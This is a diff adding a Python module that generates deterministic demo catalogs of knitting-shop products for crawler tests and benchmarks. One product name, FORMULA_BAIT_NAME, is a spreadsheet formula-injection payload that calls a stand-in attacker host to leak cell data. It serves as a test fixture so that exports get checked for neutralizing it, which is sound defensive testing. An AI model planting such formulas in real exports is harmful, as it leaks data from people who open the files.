@@ -1,0 +1,505 @@
+"""Deterministic demo catalogs: the ground truth every demo store renders.
+
+A catalog is a pure function of (site, products, day, seed). Day ``d + 1`` changes some
+prices and stock, adds products and removes others, always the same way, so tests and
+benchmarks can compare what a spider crawled with what the shop really holds.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import random
+from dataclasses import dataclass, field
+from decimal import ROUND_HALF_UP, Decimal
+from functools import lru_cache
+
+CENT = Decimal("0.01")
+
+
+@dataclass(frozen=True)
+class SiteProfile:
+    """What a shop's platform can express, so the truth never holds what it can't show."""
+
+    site: str
+    platform: str  # woocommerce, shopify, prestashop, opencart, magento2, spa, handmade
+    language: str  # "el" or "en": the language of most names and descriptions
+    currency: str = "EUR"
+    price_on_request: bool = True  # can a product have no price at all?
+    availabilities: tuple[str, ...] = ("in_stock", "out_of_stock", "backorder")
+    variant_availability: bool = True  # does the shop state stock per variant?
+    variant_sale: bool = True  # can a single variant be on sale?
+    #: Variant prices are the product price plus a per-option delta, and a sale discounts
+    #: only the product price (OpenCart's option "+1,00€" on top of a special price).
+    option_price_deltas: bool = False
+    id_base: int = 1  # the platform's first product id
+
+
+PROFILES: dict[str, SiteProfile] = {
+    p.site: p
+    for p in (
+        SiteProfile("atmosphere", "woocommerce", "el", id_base=101),
+        SiteProfile(
+            "sittingknitting",
+            "shopify",
+            "en",
+            price_on_request=False,
+            availabilities=("in_stock", "out_of_stock"),
+            id_base=7_301_000_000_001,
+        ),
+        SiteProfile("knitshop", "prestashop", "el", variant_sale=False, id_base=1),
+        SiteProfile(
+            "ili_ili",
+            "opencart",
+            "el",
+            availabilities=("in_stock", "out_of_stock", "preorder"),
+            variant_availability=False,
+            variant_sale=False,
+            option_price_deltas=True,
+            id_base=28,
+        ),
+        SiteProfile(
+            "triskeli",
+            "magento2",
+            "el",
+            price_on_request=False,
+            availabilities=("in_stock", "out_of_stock"),
+            id_base=2041,
+        ),
+        SiteProfile("manefa", "spa", "el", availabilities=("in_stock", "out_of_stock"), id_base=1),
+        SiteProfile(
+            "cityknitting",
+            "handmade",
+            "el",
+            availabilities=("in_stock", "out_of_stock", "preorder"),
+            variant_sale=False,
+            id_base=1,
+        ),
+    )
+}
+
+
+@dataclass(frozen=True)
+class Category:
+    id: int
+    slug: str
+    name_el: str
+    name_en: str
+    parent: Category | None = None
+
+    def name(self, language: str) -> str:
+        return self.name_el if language == "el" else self.name_en
+
+    def path(self) -> list[Category]:
+        """Root first, this category last."""
+        return [*(self.parent.path() if self.parent else []), self]
+
+
+_YARNS = Category(10, "nimata", "Νήματα", "Yarns")
+_NEEDLES = Category(20, "velones", "Βελόνες", "Needles")
+_HOOKS = Category(30, "velonakia", "Βελονάκια", "Crochet hooks")
+_NOTIONS = Category(40, "axesouar", "Αξεσουάρ", "Accessories")
+CATEGORIES: tuple[Category, ...] = (
+    _YARNS,
+    Category(11, "malli", "Μαλλί", "Wool", _YARNS),
+    Category(12, "vamvaki", "Βαμβάκι", "Cotton", _YARNS),
+    Category(13, "mohair", "Μοχέρ", "Mohair", _YARNS),
+    _NEEDLES,
+    Category(21, "kyklikes-velones", "Κυκλικές βελόνες", "Circular needles", _NEEDLES),
+    Category(22, "isies-velones", "Ίσιες βελόνες", "Straight needles", _NEEDLES),
+    _HOOKS,
+    _NOTIONS,
+)
+_CATEGORY_BY_ID = {c.id: c for c in CATEGORIES}
+
+
+@dataclass(frozen=True)
+class DemoVariant:
+    variant_id: int
+    sku: str
+    name: str  # options joined with " / ", as shops title a variant
+    options: dict[str, str]
+    price: Decimal | None
+    regular_price: Decimal | None
+    availability: str | None
+
+
+@dataclass(frozen=True)
+class DemoProduct:
+    index: int  # position in the site's product universe; stable across days
+    product_id: str  # the platform's own id (as text)
+    numeric_id: int
+    slug: str
+    sku: str
+    gtin: str | None
+    brand: str
+    kind: str  # yarn, needles, hook, notion
+    name: str
+    description: str
+    attributes: dict[str, str]
+    price: Decimal | None  # None: price on request
+    regular_price: Decimal | None  # set only while on sale
+    availability: str
+    categories: tuple[Category, ...]  # the first is the primary one
+    images: tuple[str, ...]  # paths relative to the shop root
+    variants: tuple[DemoVariant, ...] = ()
+    stock_qty: int = 0
+
+    @property
+    def category(self) -> Category:
+        return self.categories[0]
+
+    @property
+    def on_sale(self) -> bool:
+        return self.regular_price is not None
+
+
+@dataclass(frozen=True)
+class Catalog:
+    profile: SiteProfile
+    day: int
+    seed: int
+    products: tuple[DemoProduct, ...]
+    by_slug: dict[str, DemoProduct] = field(default_factory=dict, compare=False)
+    by_id: dict[str, DemoProduct] = field(default_factory=dict, compare=False)
+
+    @property
+    def site(self) -> str:
+        return self.profile.site
+
+    @property
+    def language(self) -> str:
+        return self.profile.language
+
+    def in_category(self, category: Category) -> list[DemoProduct]:
+        """Products of a category or of any of its subcategories, in catalog order."""
+        return [p for p in self.products if any(category in c.path() for c in p.categories)]
+
+
+# --- content -------------------------------------------------------------------------
+
+_BRANDS_YARN = ("Drops", "Lana Grossa", "Katia", "Rico Design", "Adriafil", "Gazzal", "Alize", "Lang Yarns")
+_BRANDS_TOOLS = ("KnitPro", "ChiaoGoo", "Addi", "Clover", "Prym", "Pony")
+_YARN_LINES = (
+    # (line, fibres, weight g, length m, needles (min, max))
+    ("Merino Extra Fine", ((100, "merino"),), 50, 105, ("4", "4,5")),
+    ("Baby Cotton", ((60, "cotton"), (40, "acrylic")), 50, 165, ("3", "3,5")),
+    ("Kid Mohair Silk", ((70, "mohair"), (30, "silk")), 25, 210, ("3,5", "5")),
+    ("Alpaca Soft", ((80, "alpaca"), (20, "polyamide")), 50, 120, ("4,5", "5")),
+    ("Sock Yarn 4ply", ((75, "wool"), (25, "polyamide")), 100, 420, ("2,5", "3")),
+    ("Chunky Wool", ((100, "wool"),), 100, 80, ("8", "10")),
+    ("Linen Blend", ((55, "linen"), (45, "cotton")), 50, 140, ("3,5", "4")),
+    ("Tweed Aran", ((85, "wool"), (15, "viscose")), 100, 170, ("5", "5,5")),
+)
+_FIBRE_EL = {
+    "merino": "μαλλί merino",
+    "cotton": "βαμβάκι",
+    "acrylic": "ακρυλικό",
+    "mohair": "μοχέρ",
+    "silk": "μετάξι",
+    "alpaca": "αλπακά",
+    "polyamide": "πολυαμίδιο",
+    "wool": "μαλλί",
+    "linen": "λινάρι",
+    "viscose": "βισκόζη",
+}
+_COLOURS = (
+    ("Κόκκινο", "Red", "01"),
+    ("Μπλε", "Blue", "02"),
+    ("Πράσινο", "Green", "03"),
+    ("Λευκό", "White", "04"),
+    ("Μαύρο", "Black", "05"),
+    ("Γκρι", "Grey", "06"),
+    ("Μπεζ", "Beige", "07"),
+    ("Ροζ", "Pink", "08"),
+)
+_NEEDLE_SIZES = ("2,5", "3", "3,5", "4", "4,5", "5", "6", "8")
+_TOOLS = (
+    # (kind, name el, name en, category id)
+    ("needles", "Κυκλικές βελόνες", "Circular needles", 21),
+    ("needles", "Ίσιες βελόνες", "Straight needles", 22),
+    ("hook", "Βελονάκι", "Crochet hook", 30),
+)
+_NOTION_ITEMS = (
+    ("Μαρκαδόροι πλέξης (20 τεμ.)", "Stitch markers (20 pcs)"),
+    ("Μετροταινία", "Tape measure"),
+    ("Βελόνες ραψίματος", "Darning needles"),
+    ("Μετρητής βελονών", "Needle gauge"),
+    ("Τσάντα πλεκτικής", "Knitting bag"),
+)
+
+#: A product whose name a spreadsheet would run as a formula: exports must neutralize it.
+FORMULA_BAIT_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Merino Deluxe")'
+
+# Indexes of the products every catalog has, whatever its size.
+IDX_FORMULA_BAIT = 0
+IDX_PRICE_ON_REQUEST = 1
+IDX_ON_SALE = 2
+IDX_OUT_OF_STOCK = 3
+IDX_VARIANTS = 4
+IDX_TWO_CATEGORIES = 5
+SPECIAL_COUNT = 6
+
+
+def _rng(*parts: object) -> random.Random:
+    digest = hashlib.sha256("|".join(map(str, parts)).encode()).digest()
+    return random.Random(int.from_bytes(digest[:8], "big"))
+
+
+def _money(value: Decimal | float | str) -> Decimal:
+    return Decimal(str(value)).quantize(CENT, rounding=ROUND_HALF_UP)
+
+
+def _shop_price(rng: random.Random, low: float, high: float) -> Decimal:
+    """A price a shop would set: x.50 or x.90 or x.00."""
+    whole = rng.randint(int(low), int(high))
+    return _money(Decimal(whole) + Decimal(rng.choice(("0.00", "0.50", "0.90", "0.95"))))
+
+
+def _slugify(text: str) -> str:
+    out = []
+    for ch in text.lower():
+        if ch.isascii() and ch.isalnum():
+            out.append(ch)
+        elif out and out[-1] != "-":
+            out.append("-")
+    return "".join(out).strip("-")
+
+
+def _fibres_text(fibres: tuple[tuple[int, str], ...], language: str) -> str:
+    if language == "el":
+        return ", ".join(f"{pct}% {_FIBRE_EL[f]}" for pct, f in fibres)
+    return ", ".join(f"{pct}% {f.capitalize()}" for pct, f in fibres)
+
+
+@dataclass
+class _Draft:
+    """A product before day-by-day changes are applied."""
+
+    kind: str
+    brand: str
+    name: str
+    slug: str
+    description: str
+    attributes: dict[str, str]
+    category_ids: list[int]
+    base_price: Decimal
+    variant_specs: list[tuple[str, dict[str, str], Decimal]]  # (suffix, options, price)
+
+
+def _draft(profile: SiteProfile, index: int, seed: int) -> _Draft:
+    rng = _rng(seed, profile.site, index, "draft")
+    el = profile.language == "el"
+    roll = rng.random()
+    if index == IDX_VARIANTS or (index >= SPECIAL_COUNT and roll < 0.55) or index in (0, 2, 3):
+        brand = rng.choice(_BRANDS_YARN)
+        line, fibres, weight, length, (n_min, n_max) = rng.choice(_YARN_LINES)
+        name = f"{'Νήμα ' if el else ''}{brand} {line}"
+        fib = _fibres_text(fibres, profile.language)
+        if el:
+            description = (
+                f"Απαλό νήμα {brand} {line} για πλέξιμο και βελονάκι. Σύνθεση: {fib}. "
+                f"Βάρος: {weight} γρ. Μήκος: {length} μ. Βελόνες: {n_min}-{n_max} mm. "
+                "Πλύσιμο στο χέρι στους 30°C."
+            )
+            attributes = {
+                "Σύνθεση": fib,
+                "Βάρος": f"{weight} γρ.",
+                "Μήκος": f"{length} μ.",
+                "Βελόνες": f"{n_min}-{n_max} mm",
+            }
+        else:
+            description = (
+                f"Soft {brand} {line} yarn for knitting and crochet. Composition: {fib}. "
+                f"Weight: {weight} g. Length: {length} m. Needles: {n_min.replace(',', '.')}–"
+                f"{n_max.replace(',', '.')} mm. Hand wash at 30°C."
+            )
+            attributes = {
+                "Composition": fib,
+                "Weight": f"{weight} g",
+                "Length": f"{length} m",
+                "Needle size": f"{n_min.replace(',', '.')}-{n_max.replace(',', '.')} mm",
+            }
+        fibre_main = fibres[0][1]
+        leaf = 13 if fibre_main == "mohair" else 12 if fibre_main in ("cotton", "linen") else 11
+        base = _shop_price(rng, 3, 14)
+        variants: list[tuple[str, dict[str, str], Decimal]] = []
+        if index == IDX_VARIANTS or rng.random() < 0.35:
+            colour_key = "Χρώμα" if el else "Colour"
+            count = 4 if index == IDX_VARIANTS else rng.randint(2, 8)
+            for c_el, c_en, code in rng.sample(_COLOURS, count):
+                # Hand-dyed and premium shades cost more: variants are priced differently.
+                extra = Decimal(rng.choice(("0", "0", "0.50", "1.00", "1.50")))
+                colour = c_el if el else c_en
+                variants.append((f"{code}", {colour_key: f"{colour} {code}"}, _money(base + extra)))
+            if index == IDX_VARIANTS and len({v[2] for v in variants}) == 1:
+                suffix, options, price = variants[-1]
+                variants[-1] = (suffix, options, _money(price + 1))
+        return _Draft("yarn", brand, name, _slugify(f"{brand} {line}"), description, attributes, [leaf], base, variants)
+    if roll < 0.85:
+        kind, n_el, n_en, cat = rng.choice(_TOOLS)
+        brand = rng.choice(_BRANDS_TOOLS)
+        material = rng.choice(("Bamboo", "Aluminium", "Birch", "Steel"))
+        name = f"{n_el if el else n_en} {brand} {material}"
+        base = _shop_price(rng, 4, 22)
+        size_key = "Μέγεθος" if el else "Size"
+        count = rng.randint(2, 8)
+        sizes = sorted(rng.sample(_NEEDLE_SIZES, count), key=lambda s: float(s.replace(",", ".")))
+        variants = [
+            (s.replace(",", ""), {size_key: f"{s if el else s.replace(',', '.')} mm"}, _money(base + Decimal(i) * Decimal("0.50")))
+            for i, s in enumerate(sizes)
+        ]
+        if el:
+            description = f"{n_el} {brand} από {material.lower()}. Διαθέσιμα μεγέθη: {', '.join(sizes)} mm."
+        else:
+            description = f"{n_en} by {brand}, {material.lower()}. Sizes: {', '.join(s.replace(',', '.') for s in sizes)} mm."
+        attributes = {("Υλικό" if el else "Material"): material}
+        return _Draft(kind, brand, name, _slugify(f"{n_en} {brand} {material}"), description, attributes, [cat], base, variants)
+    brand = rng.choice(_BRANDS_TOOLS)
+    n_el, n_en = rng.choice(_NOTION_ITEMS)
+    name = f"{n_el if el else n_en} {brand}"
+    description = (f"{n_el} της {brand}, απαραίτητο αξεσουάρ πλεκτικής." if el else f"{n_en} by {brand}, a knitter's essential.")
+    return _Draft("notion", brand, name, _slugify(f"{n_en} {brand}"), description, {}, [40], _shop_price(rng, 2, 9), [])
+
+
+def _present(profile: SiteProfile, index: int, products: int, day: int, seed: int) -> bool:
+    """Products ``>= products`` appear from later days; a few others disappear for good."""
+    if index >= products:
+        added_per_day = max(1, products // 50)
+        return index < products + added_per_day * (day - 1)
+    if index < SPECIAL_COUNT:
+        return True
+    return not any(_rng(seed, profile.site, index, "removed", d).random() < 0.02 for d in range(2, day + 1))
+
+
+def _day_state(profile: SiteProfile, index: int, day: int, seed: int) -> tuple[Decimal, bool, int]:
+    """(price factor, on sale, stock roll) after the changes of days 2..day."""
+    rng = _rng(seed, profile.site, index, "base")
+    factor = Decimal(1)
+    on_sale = rng.random() < 0.2
+    stock_roll = rng.randint(0, 99)
+    for d in range(2, day + 1):
+        r = _rng(seed, profile.site, index, "day", d)
+        if r.random() < 0.06:
+            factor = Decimal(str(r.choice((0.85, 0.9, 0.95, 1.05, 1.1, 1.2))))
+        if r.random() < 0.04:
+            on_sale = not on_sale
+        if r.random() < 0.06:
+            stock_roll = r.randint(0, 99)
+    return factor, on_sale, stock_roll
+
+
+def _availability(profile: SiteProfile, stock_roll: int) -> str:
+    if stock_roll < 12:
+        return "out_of_stock"
+    if stock_roll < 16 and len(profile.availabilities) > 2:
+        return profile.availabilities[2]
+    return "in_stock"
+
+
+def _build_product(profile: SiteProfile, index: int, day: int, seed: int) -> DemoProduct:
+    draft = _draft(profile, index, seed)
+    factor, on_sale, stock_roll = _day_state(profile, index, day, seed)
+    if index == IDX_ON_SALE:
+        on_sale = True
+    availability = _availability(profile, stock_roll)
+    if index == IDX_OUT_OF_STOCK:
+        availability = "out_of_stock"
+    elif index in (IDX_FORMULA_BAIT, IDX_VARIANTS, IDX_TWO_CATEGORIES, IDX_PRICE_ON_REQUEST):
+        availability = "in_stock"
+    name = FORMULA_BAIT_NAME if index == IDX_FORMULA_BAIT else draft.name
+    numeric_id = profile.id_base + index * (3 if profile.platform == "woocommerce" else 1)
+    slug = f"{draft.slug}-{index}"
+    vrng = _rng(seed, profile.site, index, "variants", day)
+
+    def sale(price: Decimal) -> tuple[Decimal, Decimal | None]:
+        if not on_sale:
+            return price, None
+        return _money(price * Decimal("0.8")), price
+
+    variants: list[DemoVariant] = []
+    base_now = _money(draft.base_price * factor)
+    for n, (suffix, options, v_price) in enumerate(draft.variant_specs):
+        if profile.option_price_deltas:
+            delta = _money((v_price - draft.base_price) * factor)
+            sale_base, regular_base = sale(base_now)
+            price, regular = sale_base + delta, (regular_base + delta if regular_base is not None else None)
+        else:
+            price, regular = sale(_money(v_price * factor))
+        if profile.variant_availability:
+            v_avail = "out_of_stock" if availability == "out_of_stock" or (n == 1 and vrng.random() < 0.5) else "in_stock"
+            if index == IDX_VARIANTS and n == 1:
+                v_avail = "out_of_stock"
+        else:
+            v_avail = None
+        variants.append(
+            DemoVariant(
+                variant_id=numeric_id * 100 + n + 1,
+                sku=f"{profile.site[:3].upper()}-{index:05d}-{suffix}",
+                name=" / ".join(options.values()),
+                options=options,
+                price=price,
+                regular_price=regular,
+                availability=v_avail,
+            )
+        )
+    if variants and profile.variant_availability:
+        availability = "in_stock" if any(v.availability == "in_stock" for v in variants) else "out_of_stock"
+    if variants:
+        cheapest = min(variants, key=lambda v: (v.price, v.variant_id))
+        price, regular = cheapest.price, cheapest.regular_price
+    else:
+        price, regular = sale(base_now)
+    if index == IDX_PRICE_ON_REQUEST and profile.price_on_request:
+        price, regular, variants = None, None, []
+    categories = [_CATEGORY_BY_ID[c] for c in draft.category_ids]
+    if index == IDX_TWO_CATEGORIES or (index >= SPECIAL_COUNT and _rng(seed, profile.site, index, "cat2").random() < 0.05):
+        extra = _CATEGORY_BY_ID[40] if categories[0].id != 40 else _CATEGORY_BY_ID[11]
+        categories.append(extra)
+    gtin = f"520{numeric_id % 10**9:09d}" if draft.kind == "yarn" else None
+    if gtin:  # a valid EAN-13 check digit, as real barcodes have
+        total = sum(int(d) * (3 if i % 2 else 1) for i, d in enumerate(gtin))
+        gtin += str((10 - total % 10) % 10)
+    return DemoProduct(
+        index=index,
+        product_id=str(numeric_id),
+        numeric_id=numeric_id,
+        slug=slug,
+        sku=f"{profile.site[:3].upper()}-{index:05d}",
+        gtin=gtin,
+        brand=draft.brand,
+        kind=draft.kind,
+        name=name,
+        description=draft.description,
+        attributes=draft.attributes,
+        price=price,
+        regular_price=regular,
+        availability=availability,
+        categories=tuple(categories),
+        images=(f"media/{slug}.jpg", f"media/{slug}-2.jpg"),
+        variants=tuple(variants),
+        stock_qty=0 if availability == "out_of_stock" else 3 + stock_roll,
+    )
+
+
+@lru_cache(maxsize=32)
+def build_catalog(site: str, products: int = 40, day: int = 1, seed: int = 1) -> Catalog:
+    """The catalog of demo shop ``site`` on ``day`` (1-based), with about ``products`` products."""
+    if site not in PROFILES:
+        raise KeyError(f"unknown demo site {site!r}; known: {', '.join(sorted(PROFILES))}")
+    if products < SPECIAL_COUNT:
+        raise ValueError(f"a demo catalog needs at least {SPECIAL_COUNT} products, got {products}")
+    if day < 1:
+        raise ValueError(f"day starts at 1, got {day}")
+    profile = PROFILES[site]
+    universe = products + max(1, products // 50) * (day - 1)
+    items = tuple(
+        _build_product(profile, i, day, seed) for i in range(universe) if _present(profile, i, products, day, seed)
+    )
+    return Catalog(
+        profile=profile,
+        day=day,
+        seed=seed,
+        products=items,
+        by_slug={p.slug: p for p in items},
+        by_id={p.product_id: p for p in items},
+    )
